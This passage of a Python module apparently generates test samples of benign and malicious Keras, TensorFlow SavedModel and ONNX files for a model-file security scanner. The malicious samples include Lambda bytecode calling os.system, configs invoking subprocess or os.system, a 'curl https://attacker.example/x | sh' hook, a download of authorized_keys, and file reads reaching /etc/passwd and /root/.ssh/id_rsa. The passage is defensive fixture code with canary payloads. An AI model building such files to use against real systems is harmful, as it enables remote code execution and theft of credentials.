"""Keras (``.h5``, ``.keras``), TensorFlow SavedModel and ONNX samples.

Benign samples are written the way the real libraries write them: the HDF5 layout and
attributes of Keras 2's ``model.save("x.h5")`` (with h5py), the members of a Keras 3
``.keras`` zip, the protocol buffers of a TF1 and a TF2 SavedModel (standard saver wiring
included), and ONNX models from ``onnx.helper``. TensorFlow and Keras are not needed: the
SavedModel protobufs are written field by field with the tiny writer below.

Malicious samples carry the realistic shape of each attack. Lambda layers hold
``marshal.dumps`` of a code object compiled (never run) from ``lambda x: ...`` source that
would ``touch`` the canary; configs that abuse Keras's module imports name the functions that
would create it; graph operations write to it. Nothing here ever executes a payload.

Example:
    >>> from samples.keras_tf_onnx import SAMPLES  # doctest: +SKIP
    >>> len([s for s in SAMPLES if s.malicious]) > 10  # doctest: +SKIP
    True
"""

from __future__ import annotations

import base64
import json
import marshal
import shlex
import struct
import types
import zipfile
from pathlib import Path
from typing import Any

from corpus import Sample

__all__ = ["SAMPLES", "f_int", "f_len", "f_str", "lambda_bytecode", "msg", "node", "saved_model"]

# --------------------------------------------------------------------------------------------
# Payloads


def lambda_bytecode(canary: Path) -> str:
    """Base64 of the marshalled code of a lambda that would ``touch`` the canary (compiled only).

    Keras's ``func_dump`` stores ``marshal.dumps(fn.__code__)`` base64-encoded; the lambda's
    code object is taken from the constants of the compiled expression, so nothing runs.
    """
    source = f"lambda x: (__import__('os').system({('touch ' + shlex.quote(str(canary)))!r}), x)[1]"
    module = compile(source, "<lambda>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return base64.b64encode(marshal.dumps(code)).decode("ascii") + "\n"


# --------------------------------------------------------------------------------------------
# A protocol-buffer writer (wire format only)


def varint(n: int) -> bytes:
    """A base-128 varint (negative numbers as 64-bit two's complement, as protobuf does)."""
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def f_int(field: int, n: int) -> bytes:
    """A varint field."""
    return varint(field << 3) + varint(n)


def f_len(field: int, data: bytes) -> bytes:
    """A length-delimited field (bytes or a sub-message)."""
    return varint(field << 3 | 2) + varint(len(data)) + data


def f_str(field: int, text: str) -> bytes:
    """A string field."""
    return f_len(field, text.encode("utf-8"))


def f_f32(field: int, x: float) -> bytes:
    """A ``float`` field."""
    return varint(field << 3 | 5) + struct.pack("<f", x)


def msg(*parts: bytes) -> bytes:
    """Fields concatenated into a message."""
    return b"".join(parts)


# -- TensorFlow messages ------------------------------------------------------------------------

DT_FLOAT, DT_INT32, DT_STRING, DT_RESOURCE = 1, 3, 7, 20


def _shape(*dims: int) -> bytes:
    return msg(*(f_len(2, f_int(1, d)) for d in dims))


def _attr(key: str, value: bytes) -> bytes:
    return f_len(5, msg(f_str(1, key), f_len(2, value)))


def a_type(t: int) -> bytes:
    return f_int(6, t)


def a_shape(*dims: int) -> bytes:
    return f_len(7, _shape(*dims))


def a_str(text: str) -> bytes:
    return f_str(2, text)


def a_bool(flag: bool) -> bytes:
    return f_int(5, int(flag))


def a_func(name: str) -> bytes:
    return f_len(10, f_str(1, name))


def a_types(*ts: int) -> bytes:
    return f_len(1, f_len(6, b"".join(varint(t) for t in ts)))


def a_string_tensor(*values: str) -> bytes:
    dims = _shape(len(values)) if len(values) != 1 else b""
    return f_len(8, msg(f_int(1, DT_STRING), f_len(2, dims),
                          *(f_str(8, v) for v in values)))


def a_int_tensor(value: int) -> bytes:
    return f_len(8, msg(f_int(1, DT_INT32), f_len(2, b""), f_int(7, value)))


def node(name: str, op: str, *inputs: str, **attrs: bytes) -> bytes:
    """A ``NodeDef``."""
    return msg(f_str(1, name), f_str(2, op), *(f_str(3, i) for i in inputs),
                  *(_attr(k, v) for k, v in attrs.items()))


def const_str(name: str, *values: str) -> bytes:
    return node(name, "Const", dtype=a_type(DT_STRING), value=a_string_tensor(*values))


def const_int(name: str, value: int) -> bytes:
    return node(name, "Const", dtype=a_type(DT_INT32), value=a_int_tensor(value))


def function(name: str, args: list[tuple[str, int]], outputs: list[tuple[str, int]],
             nodes: list[bytes], ret: dict[str, str]) -> bytes:
    """A ``FunctionDef`` (signature, nodes, return mapping)."""
    signature = msg(f_str(1, name),
                       *(f_len(2, msg(f_str(1, a), f_int(3, t))) for a, t in args),
                       *(f_len(3, msg(f_str(1, o), f_int(3, t))) for o, t in outputs))
    return msg(f_len(1, signature), *(f_len(3, n) for n in nodes),
                  *(f_len(4, msg(f_str(1, k), f_str(2, v))) for k, v in ret.items()))


def saved_model(nodes: list[bytes], functions: list[bytes] = (), *,  # type: ignore[assignment]
                saver: bytes = b"", signature_input: str = "x:0",
                signature_output: str = "y:0") -> bytes:
    """A ``SavedModel`` with one ``MetaGraphDef`` tagged ``serve``."""
    meta_info = msg(f_str(1, ""), f_str(4, "serve"), f_str(5, "2.15.0"),
                       f_str(6, "v2.15.0-2-g0b15fdfcb3f"))
    library = msg(*(f_len(1, f) for f in functions))
    graph = msg(*(f_len(1, n) for n in nodes), f_len(2, library) if functions else b"",
                   f_len(4, f_int(1, 1645)))
    tensor_in = msg(f_str(1, signature_input), f_int(2, DT_FLOAT), f_len(3, _shape(-1, 4)))
    tensor_out = msg(f_str(1, signature_output), f_int(2, DT_FLOAT), f_len(3, _shape(-1, 2)))
    signature = msg(f_len(1, msg(f_str(1, "x"), f_len(2, tensor_in))),
                       f_len(2, msg(f_str(1, "y"), f_len(2, tensor_out))),
                       f_str(3, "tensorflow/serving/predict"))
    meta = msg(f_len(1, meta_info), f_len(2, graph), f_len(3, saver) if saver else b"",
                  f_len(5, msg(f_str(1, "serving_default"), f_len(2, signature))))
    return msg(f_int(1, 1), f_len(2, meta))


def _write_saved_model(out_dir: Path, blob: bytes) -> Path:
    out_dir.mkdir(parents=True, exist_ok=True)
    (out_dir / "saved_model.pb").write_bytes(blob)
    variables = out_dir / "variables"
    variables.mkdir(exist_ok=True)
    # A TensorBundle index is an SSTable: blocks of prefix-compressed entries, then a footer
    # ending in the table magic number.
    (variables / "variables.index").write_bytes(
        b"\x00\x0e\x05W/.ATTRIBUTES/VARIABLE_VALUE\x08\x01\x12\x02\x08\x04" + b"\x00" * 24
        + struct.pack("<Q", 0xDB4775248B80FB57))
    (variables / "variables.data-00000-of-00001").write_bytes(struct.pack("<10f", *[0.5] * 10))
    (out_dir / "fingerprint.pb").write_bytes(msg(
        f_int(1, 0x1234567890), f_int(2, 0x2345678901), f_int(3, 0x3456789012),
        f_int(4, 0x4567890123), f_int(5, 0x5678901234), f_len(6, f_int(1, 1))))
    return out_dir


# -- TF1: a graph with the classic tf.compat.v1.train.Saver wiring -----------------------------

def _tf1_model_nodes() -> list[bytes]:
    f = a_type(DT_FLOAT)
    return [
        node("x", "Placeholder", dtype=f, shape=a_shape(-1, 4)),
        node("W", "VariableV2", dtype=f, shape=a_shape(4, 2), container=a_str(""),
             shared_name=a_str("")),
        node("b", "VariableV2", dtype=f, shape=a_shape(2), container=a_str(""),
             shared_name=a_str("")),
        node("W/read", "Identity", "W", T=f),
        node("b/read", "Identity", "b", T=f),
        node("MatMul", "MatMul", "x", "W/read", T=f, transpose_a=a_bool(False),
             transpose_b=a_bool(False)),
        node("add", "AddV2", "MatMul", "b/read", T=f),
        node("y", "Identity", "add", T=f),
    ]


def _tf1_saver_nodes() -> list[bytes]:
    f, s = a_type(DT_FLOAT), a_type(DT_STRING)
    return [
        const_str("save/filename/input", "model"),
        node("save/filename", "PlaceholderWithDefault", "save/filename/input", dtype=s,
             shape=a_shape()),
        node("save/Const", "PlaceholderWithDefault", "save/filename", dtype=s, shape=a_shape()),
        const_str("save/StringJoin/inputs_1", "_temp_4f9a0c3e5d2b41a6/part"),
        node("save/StringJoin", "StringJoin", "save/Const", "save/StringJoin/inputs_1", N=f_int(3, 2),
             separator=a_str("")),
        const_int("save/num_shards", 1),
        const_int("save/ShardedFilename/shard", 0),
        node("save/ShardedFilename", "ShardedFilename", "save/StringJoin",
             "save/ShardedFilename/shard", "save/num_shards"),
        const_str("save/SaveV2/tensor_names", "W", "b"),
        const_str("save/SaveV2/shape_and_slices", "", ""),
        node("save/SaveV2", "SaveV2", "save/ShardedFilename", "save/SaveV2/tensor_names",
             "save/SaveV2/shape_and_slices", "W", "b", dtypes=a_types(DT_FLOAT, DT_FLOAT)),
        node("save/control_dependency", "Identity", "save/ShardedFilename", "^save/SaveV2", T=s),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", "save/ShardedFilename",
             "^save/control_dependency", N=f_int(3, 1), T=s),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints",
             "save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const",
             delete_old_dirs=a_bool(True)),
        node("save/Identity", "Identity", "save/Const", "^save/MergeV2Checkpoints", T=s),
        const_str("save/RestoreV2/tensor_names", "W", "b"),
        const_str("save/RestoreV2/shape_and_slices", "", ""),
        node("save/RestoreV2", "RestoreV2", "save/Const", "save/RestoreV2/tensor_names",
             "save/RestoreV2/shape_and_slices", dtypes=a_types(DT_FLOAT, DT_FLOAT)),
        node("save/Assign", "Assign", "W", "save/RestoreV2", T=f),
        node("save/Assign_1", "Assign", "b", "save/RestoreV2:1", T=f),
        node("save/restore_shard", "NoOp", "^save/Assign", "^save/Assign_1"),
        node("save/restore_all", "NoOp", "^save/restore_shard"),
    ]


TF1_SAVER = msg(f_str(1, "save/Const:0"), f_str(2, "save/Identity:0"),
                   f_str(3, "save/restore_all"), f_int(4, 5), f_int(5, 1),
                   f_f32(6, 10000.0), f_int(7, 2))


def _sm_tf1(out_dir: Path, canary: Path) -> Path:
    return _write_saved_model(out_dir, saved_model(_tf1_model_nodes() + _tf1_saver_nodes(),
                                                   saver=TF1_SAVER))


def _sm_writefile(out_dir: Path, canary: Path) -> Path:
    payload = [
        const_str("hook/path", str(canary)),
        const_str("hook/contents", "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"),
        node("hook/WriteFile", "WriteFile", "hook/path", "hook/contents"),
        node("y_hooked", "Identity", "add", "^hook/WriteFile", T=a_type(DT_FLOAT)),
    ]
    return _write_saved_model(out_dir, saved_model(
        _tf1_model_nodes() + payload + _tf1_saver_nodes(), saver=TF1_SAVER,
        signature_output="y_hooked:0"))


def _sm_fixed_save_path(out_dir: Path, canary: Path) -> Path:
    payload = [
        const_str("evil/prefix", str(canary)),
        const_str("evil/names", "W"),
        const_str("evil/slices", ""),
        node("evil/SaveV2", "SaveV2", "evil/prefix", "evil/names", "evil/slices", "W",
             dtypes=a_types(DT_FLOAT)),
        node("y_saved", "Identity", "add", "^evil/SaveV2", T=a_type(DT_FLOAT)),
    ]
    return _write_saved_model(out_dir, saved_model(
        _tf1_model_nodes() + payload + _tf1_saver_nodes(), saver=TF1_SAVER,
        signature_output="y_saved:0"))


# -- TF2: tf.function graphs, with the traced save/restore functions ---------------------------

def _tf2_functions(serving_extra: list[bytes] | None = None) -> list[bytes]:
    f, s = a_type(DT_FLOAT), a_type(DT_STRING)
    serving_nodes = [
        node("MatMul/ReadVariableOp", "ReadVariableOp", "matmul_readvariableop_resource",
             dtype=f),
        node("MatMul", "MatMul", "x", "MatMul/ReadVariableOp:value:0", T=f),
        node("BiasAdd/ReadVariableOp", "ReadVariableOp", "biasadd_readvariableop_resource",
             dtype=f),
        node("BiasAdd", "BiasAdd", "MatMul:product:0", "BiasAdd/ReadVariableOp:value:0", T=f),
        node("Identity", "Identity", "BiasAdd:output:0", T=f),
    ]
    if serving_extra:
        serving_nodes[-1:] = serving_extra
    serving = function(
        "__inference_serve_241", [("x", DT_FLOAT), ("matmul_readvariableop_resource", DT_RESOURCE),
                                  ("biasadd_readvariableop_resource", DT_RESOURCE)],
        [("identity", DT_FLOAT)], serving_nodes, {"identity": "Identity:output:0"})
    save = function(
        "__inference__traced_save_318",
        [("file_prefix", DT_STRING), ("savev2_kernel_read_readvariableop", DT_FLOAT),
         ("savev2_bias_read_readvariableop", DT_FLOAT), ("savev2_const", DT_STRING)],
        [("identity_1", DT_STRING)],
        [
            node("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix",
                 pattern=a_str("^s3://.*")),
            const_str("Const", ".part"),
            const_str("Const_1", "_temp/part"),
            node("Select", "Select", "StaticRegexFullMatch:output:0", "Const:output:0",
                 "Const_1:output:0", T=s),
            node("StringJoin", "StringJoin", "file_prefix", "Select:output:0", N=f_int(3, 2)),
            const_int("num_shards", 1),
            const_int("ShardedFilename/shard", 0),
            node("ShardedFilename", "ShardedFilename", "StringJoin:output:0",
                 "ShardedFilename/shard:output:0", "num_shards:output:0"),
            const_str("SaveV2/tensor_names", "kernel/.ATTRIBUTES/VARIABLE_VALUE",
                      "bias/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
            const_str("SaveV2/shape_and_slices", "", "", ""),
            node("SaveV2", "SaveV2", "ShardedFilename:filename:0",
                 "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0",
                 "savev2_kernel_read_readvariableop", "savev2_bias_read_readvariableop",
                 "savev2_const", dtypes=a_types(DT_FLOAT, DT_FLOAT, DT_STRING)),
            node("MergeV2Checkpoints/checkpoint_prefixes", "Pack",
                 "ShardedFilename:filename:0", "^SaveV2", N=f_int(3, 1), T=s),
            node("MergeV2Checkpoints", "MergeV2Checkpoints",
                 "MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"),
            node("Identity", "Identity", "file_prefix", "^MergeV2Checkpoints", T=s),
            node("Identity_1", "Identity", "Identity:output:0", T=s),
        ],
        {"identity_1": "Identity_1:output:0"})
    restore = function(
        "__inference__traced_restore_341",
        [("file_prefix", DT_STRING), ("assignvariableop_kernel", DT_RESOURCE),
         ("assignvariableop_1_bias", DT_RESOURCE)],
        [("identity_2", DT_STRING)],
        [
            const_str("RestoreV2/tensor_names", "kernel/.ATTRIBUTES/VARIABLE_VALUE",
                      "bias/.ATTRIBUTES/VARIABLE_VALUE"),
            const_str("RestoreV2/shape_and_slices", "", ""),
            node("RestoreV2", "RestoreV2", "file_prefix", "RestoreV2/tensor_names:output:0",
                 "RestoreV2/shape_and_slices:output:0", dtypes=a_types(DT_FLOAT, DT_FLOAT)),
            node("Identity", "Identity", "RestoreV2:tensors:0", T=f),
            node("AssignVariableOp", "AssignVariableOp", "assignvariableop_kernel",
                 "Identity:output:0", dtype=f),
            node("Identity_1", "Identity", "RestoreV2:tensors:1", T=f),
            node("AssignVariableOp_1", "AssignVariableOp", "assignvariableop_1_bias",
                 "Identity_1:output:0", dtype=f),
            node("NoOp", "NoOp", "^AssignVariableOp", "^AssignVariableOp_1"),
            node("Identity_2", "Identity", "file_prefix", "^NoOp", T=s),
        ],
        {"identity_2": "Identity_2:output:0"})
    return [serving, save, restore]


def _tf2_nodes() -> list[bytes]:
    f, s = a_type(DT_FLOAT), a_type(DT_STRING)
    return [
        node("kernel", "VarHandleOp", dtype=f, shape=a_shape(4, 2),
             shared_name=a_str("kernel"), container=a_str("")),
        node("bias", "VarHandleOp", dtype=f, shape=a_shape(2), shared_name=a_str("bias"),
             container=a_str("")),
        node("serving_default_x", "Placeholder", dtype=f, shape=a_shape(-1, 4)),
        node("StatefulPartitionedCall", "StatefulPartitionedCall", "serving_default_x",
             "kernel", "bias", f=a_func("__inference_serve_241"), Tin=a_types(1, 20, 20),
             Tout=a_types(1)),
        node("saver_filename", "Placeholder", dtype=s, shape=a_shape()),
        const_str("Const", "\n\x0e\n\x05\x08\x01\x12\x01x"),  # object graph proto (bytes)
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall", "saver_filename",
             "kernel", "bias", "Const", f=a_func("__inference__traced_save_318")),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall", "saver_filename",
             "kernel", "bias", f=a_func("__inference__traced_restore_341")),
    ]


def _sm_tf2(out_dir: Path, canary: Path) -> Path:
    return _write_saved_model(out_dir, saved_model(
        _tf2_nodes(), _tf2_functions(), signature_input="serving_default_x:0",
        signature_output="StatefulPartitionedCall:0"))


def _sm_pyfunc_in_function(out_dir: Path, canary: Path) -> Path:
    f = a_type(DT_FLOAT)
    hidden = [
        node("EagerPyFunc", "EagerPyFunc", "BiasAdd:output:0", token=a_str("pyfunc_0"),
             is_async=a_bool(False), Tin=a_types(DT_FLOAT), Tout=a_types(DT_FLOAT)),
        node("Identity", "Identity", "EagerPyFunc:output:0", T=f),
    ]
    return _write_saved_model(out_dir, saved_model(
        _tf2_nodes(), _tf2_functions(hidden), signature_input="serving_default_x:0",
        signature_output="StatefulPartitionedCall:0"))


# --------------------------------------------------------------------------------------------
# Keras 2 .h5 (written with h5py the way tf.keras 2.11 saves a Sequential model)


def _dense2(name: str, units: int, activation: str, input_dim: int | None = None,
            ) -> dict[str, Any]:
    config: dict[str, Any] = {
        "name": name, "trainable": True, "dtype": "float32", "units": units,
        "activation": activation, "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
        "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None,
    }
    if input_dim is not None:
        config["batch_input_shape"] = [None, input_dim]
    return {"class_name": "Dense", "config": config}


def _sequential2(layers: list[dict[str, Any]]) -> dict[str, Any]:
    inputs = {"class_name": "InputLayer", "config": {
        "batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False,
        "name": "dense_input"}}
    return {"class_name": "Sequential", "config": {"name": "sequential",
                                                   "layers": [inputs, *layers]}}


_TRAINING_CONFIG2 = {
    "loss": "sparse_categorical_crossentropy", "metrics": [[{
        "class_name": "MeanMetricWrapper", "config": {
            "name": "accuracy", "dtype": "float32", "fn": "sparse_categorical_accuracy"}}]],
    "weighted_metrics": None, "loss_weights": None,
    "optimizer_config": {"class_name": "Custom>Adam", "config": {
        "name": "Adam", "weight_decay": None, "clipnorm": None, "global_clipnorm": None,
        "clipvalue": None, "use_ema": False, "ema_momentum": 0.99,
        "ema_overwrite_frequency": None, "jit_compile": True, "is_legacy_optimizer": False,
        "learning_rate": 0.0010000000474974513, "beta_1": 0.9, "beta_2": 0.999,
        "epsilon": 1e-07, "amsgrad": False}},
}


def _write_h5(path: Path, model_config: dict[str, Any], weights: dict[str, list[tuple[str, Any]]],
              *, training: bool = True) -> Path:
    import h5py
    import numpy as np

    path.parent.mkdir(parents=True, exist_ok=True)
    with h5py.File(path, "w") as h5:
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["keras_version"] = "2.11.0"
        h5.attrs["model_config"] = json.dumps(model_config).encode("utf8")
        if training:
            h5.attrs["training_config"] = json.dumps(_TRAINING_CONFIG2).encode("utf8")
        group = h5.create_group("model_weights")
        group.attrs["backend"] = "tensorflow"
        group.attrs["keras_version"] = "2.11.0"
        group.attrs["layer_names"] = np.array([n.encode() for n in weights], dtype="S")
        for layer, tensors in weights.items():
            g = group.create_group(layer)
            g.attrs["weight_names"] = np.array([f"{layer}/{n}".encode() for n, _ in tensors],
                                               dtype="S")
            for n, shape in tensors:
                g.create_dataset(f"{layer}/{n}", data=np.full(shape, 0.25, dtype="float32"))
        if training:
            opt = h5.create_group("optimizer_weights")
            opt.attrs["weight_names"] = np.array([b"iteration:0"], dtype="S")
            opt.create_dataset("iteration:0", data=np.int64(100))
    return path


_WEIGHTS2 = {"dense": [("kernel:0", (4, 8)), ("bias:0", (8,))],
             "dense_1": [("kernel:0", (8, 3)), ("bias:0", (3,))]}


def _h5_benign(out_dir: Path, canary: Path) -> Path:
    config = _sequential2([_dense2("dense", 8, "relu", 4), _dense2("dense_1", 3, "softmax")])
    return _write_h5(out_dir / "model.h5", config, _WEIGHTS2)


def _h5_lambda(out_dir: Path, canary: Path) -> Path:
    lam = {"class_name": "Lambda", "config": {
        "name": "lambda", "trainable": True, "dtype": "float32",
        "function": [lambda_bytecode(canary), None, None], "function_type": "lambda",
        "module": "__main__", "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}
    config = _sequential2([_dense2("dense", 8, "relu", 4), lam,
                           _dense2("dense_1", 3, "softmax")])
    return _write_h5(out_dir / "model.h5", config, _WEIGHTS2)


def _h5_custom_layer(out_dir: Path, canary: Path) -> Path:
    custom = {"class_name": "Antirectifier", "config": {"name": "antirectifier",
                                                        "trainable": True, "dtype": "float32"}}
    config = _sequential2([_dense2("dense", 8, "relu", 4), custom,
                           _dense2("dense_1", 3, "softmax")])
    return _write_h5(out_dir / "model.h5", config, _WEIGHTS2)


def _h5_external_link(out_dir: Path, canary: Path) -> Path:
    import h5py

    config = _sequential2([_dense2("dense", 8, "relu", 4), _dense2("dense_1", 3, "softmax")])
    path = _write_h5(out_dir / "model.h5", config, _WEIGHTS2)
    with h5py.File(path, "a") as h5:
        h5["model_weights/dense_1"]["dense_1/secret"] = h5py.ExternalLink("/etc/passwd", "/x")
    return path


# --------------------------------------------------------------------------------------------
# Keras 3 .keras archives


def _dtype3() -> dict[str, Any]:
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"},
            "registered_name": None}


def _layer3(class_name: str, config: dict[str, Any], input_shape: list[Any] | None = None,
            module: str = "keras.layers", registered_name: str | None = None,
            ) -> dict[str, Any]:
    out: dict[str, Any] = {"module": module, "class_name": class_name, "config": config,
                           "registered_name": registered_name}
    if input_shape is not None:
        out["build_config"] = {"input_shape": input_shape}
    return out


def _dense3(name: str, units: int, activation: Any, input_shape: list[Any]) -> dict[str, Any]:
    return _layer3("Dense", {
        "name": name, "trainable": True, "dtype": _dtype3(), "units": units,
        "activation": activation, "use_bias": True,
        "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                               "config": {"seed": None}, "registered_name": None},
        "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros",
                             "config": {}, "registered_name": None},
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, input_shape)


def _sequential3(middle: list[dict[str, Any]] = ()) -> dict[str, Any]:  # type: ignore[assignment]
    layers = [
        _layer3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False,
                               "name": "input_layer"}),
        _dense3("dense", 8, "relu", [None, 4]),
        *middle,
        _dense3("dense_1", 3, "softmax", [None, 8]),
    ]
    return {
        "module": "keras", "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": _dtype3(),
                   "layers": layers},
        "registered_name": None, "build_config": {"input_shape": [None, 4]},
        "compile_config": {
            "optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {
                "name": "adam", "learning_rate": 0.0010000000474974513, "weight_decay": None,
                "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
                "use_ema": False, "ema_momentum": 0.99, "ema_overwrite_frequency": None,
                "loss_scale_factor": None, "gradient_accumulation_steps": None,
                "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False},
                "registered_name": None},
            "loss": "sparse_categorical_crossentropy", "loss_weights": None,
            "metrics": ["accuracy"], "weighted_metrics": None, "run_eagerly": False,
            "steps_per_execution": 1, "jit_compile": False},
    }


def _weights3_h5(path: Path) -> None:
    import h5py
    import numpy as np

    with h5py.File(path, "w") as h5:
        h5.create_group("vars")
        for layer, shapes in (("dense", [(4, 8), (8,)]), ("dense_1", [(8, 3), (3,)])):
            vars_ = h5.create_group(f"layers/{layer}/vars")
            for i, shape in enumerate(shapes):
                vars_.create_dataset(str(i), data=np.full(shape, 0.25, dtype="float32"))
        opt = h5.create_group("optimizer/vars")
        opt.create_dataset("0", data=np.int64(100))
        opt.create_dataset("1", data=np.float32(0.001))


def _write_keras(out_dir: Path, config: dict[str, Any]) -> Path:
    out_dir.mkdir(parents=True, exist_ok=True)
    weights = out_dir / "model.weights.h5"
    _weights3_h5(weights)
    path = out_dir / "model.keras"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps(
            {"keras_version": "3.8.0", "date_saved": "2025-02-10@14:03:51"}))
        zf.writestr("config.json", json.dumps(config))
        zf.write(weights, "model.weights.h5")
    weights.unlink()
    return path


def _keras3_benign(out_dir: Path, canary: Path) -> Path:
    return _write_keras(out_dir, _sequential3())


def _keras3_lambda(out_dir: Path, canary: Path) -> Path:
    lam = _layer3("Lambda", {
        "name": "lambda", "trainable": True, "dtype": _dtype3(),
        "function": {"class_name": "__lambda__",
                     "config": {"value": [lambda_bytecode(canary), None, None]}},
        "arguments": {}})
    return _write_keras(out_dir, _sequential3([lam]))


def _keras3_import_subprocess(out_dir: Path, canary: Path) -> Path:
    # CVE-2025-1550: Keras < 3.9 imports the module a config names and hands back the
    # function; the Lambda layer then calls it with the layer's arguments.
    lam = _layer3("Lambda", {
        "name": "lambda", "trainable": True, "dtype": _dtype3(),
        "function": {"module": "subprocess", "class_name": "function", "config": "run",
                     "registered_name": None},
        "arguments": {"args": ["touch", str(canary)]}})
    return _write_keras(out_dir, _sequential3([lam]))


def _keras3_activation_os(out_dir: Path, canary: Path) -> Path:
    config = _sequential3()
    config["config"]["layers"][1]["config"]["activation"] = {
        "module": "os", "class_name": "function", "config": "system", "registered_name": None}
    return _write_keras(out_dir, config)


def _keras3_get_file(out_dir: Path, canary: Path) -> Path:
    # CVE-2025-8747: keras.utils.get_file is inside Keras, so the 3.9 module check passes it.
    lam = _layer3("Lambda", {
        "name": "lambda", "trainable": True, "dtype": _dtype3(),
        "function": {"module": "keras.utils", "class_name": "function", "config": "get_file",
                     "registered_name": None},
        "arguments": {"origin": "https://attacker.example/authorized_keys",
                      "fname": canary.name, "cache_dir": str(canary.parent),
                      "cache_subdir": "", "force_download": True}})
    return _write_keras(out_dir, _sequential3([lam]))


def _keras3_enable_unsafe(out_dir: Path, canary: Path) -> Path:
    # CVE-2025-9906: the first Lambda switches safe_mode off, the second one's bytecode runs.
    switch = _layer3("Lambda", {
        "name": "switch", "trainable": True, "dtype": _dtype3(),
        "function": {"module": "keras.config", "class_name": "function",
                     "config": "enable_unsafe_deserialization", "registered_name": None},
        "arguments": {}})
    payload = _layer3("Lambda", {
        "name": "payload", "trainable": True, "dtype": _dtype3(),
        "function": {"class_name": "__lambda__",
                     "config": {"value": [lambda_bytecode(canary), None, None]}},
        "arguments": {}})
    return _write_keras(out_dir, _sequential3([switch, payload]))


def _keras3_vocabulary_path(out_dir: Path, canary: Path) -> Path:
    # CVE-2025-12058: StringLookup opens its vocabulary path at load time, safe_mode or not.
    lookup = _layer3("StringLookup", {
        "name": "string_lookup", "trainable": False, "dtype": "int64", "max_tokens": None,
        "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
        "vocabulary": "/root/.ssh/id_rsa", "vocabulary_dtype": "string", "idf_weights": None,
        "invert": False, "output_mode": "int", "sparse": False, "pad_to_max_tokens": False})
    return _write_keras(out_dir, _sequential3([lookup]))


def _keras3_custom_object(out_dir: Path, canary: Path) -> Path:
    custom = _layer3("Antirectifier", {"name": "antirectifier", "trainable": True,
                                       "dtype": _dtype3()},
                     module="my_project.layers", registered_name="MyProject>Antirectifier")
    return _write_keras(out_dir, _sequential3([custom]))


# --------------------------------------------------------------------------------------------
# ONNX (onnx.helper)


def _onnx_model(nodes: list[Any], *, initializers: list[Any] | None = None,
                opsets: list[tuple[str, int]] = (), functions: list[Any] = ()) -> Any:  # type: ignore[assignment]
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])
    graph = helper.make_graph(nodes, "tiny", [x], [y], initializer=initializers or [])
    imports = [helper.make_operatorsetid("", 17), *(helper.make_operatorsetid(d, v)
                                                     for d, v in opsets)]
    return helper.make_model(graph, opset_imports=imports, producer_name="phalanx-corpus",
                             ir_version=8, functions=list(functions))


def _onnx_weights() -> list[Any]:
    import numpy as np
    from onnx import numpy_helper

    return [numpy_helper.from_array(np.full((4, 2), 0.5, dtype=np.float32), "W"),
            numpy_helper.from_array(np.zeros(2, dtype=np.float32), "B")]


def _onnx_standard_nodes(out: str = "y") -> list[Any]:
    from onnx import helper

    return [helper.make_node("MatMul", ["x", "W"], ["xw"], name="matmul"),
            helper.make_node("Add", ["xw", "B"], ["z"], name="add"),
            helper.make_node("Relu", ["z"], [out], name="relu")]


def _save_onnx(out_dir: Path, model: Any, name: str = "model.onnx") -> Path:
    import onnx

    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / name
    onnx.save_model(model, str(path))
    return path


def _onnx_benign(out_dir: Path, canary: Path) -> Path:
    return _save_onnx(out_dir, _onnx_model(_onnx_standard_nodes(), initializers=_onnx_weights()))


def _onnx_benign_external(out_dir: Path, canary: Path) -> Path:
    import onnx

    model = _onnx_model(_onnx_standard_nodes(), initializers=_onnx_weights())
    out_dir.mkdir(parents=True, exist_ok=True)
    onnx.save_model(model, str(out_dir / "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="model.onnx.data",
                    size_threshold=0)
    return out_dir / "model.onnx"


def _external(tensor: Any, location: str) -> None:
    from onnx import TensorProto

    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "32")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value


def _onnx_traversal(out_dir: Path, canary: Path) -> Path:
    weights = _onnx_weights()
    _external(weights[0], "../../../../../../../../etc/passwd")
    return _save_onnx(out_dir, _onnx_model(_onnx_standard_nodes(), initializers=weights))


def _onnx_custom_domain(out_dir: Path, canary: Path) -> Path:
    from onnx import helper

    nodes = _onnx_standard_nodes("h")
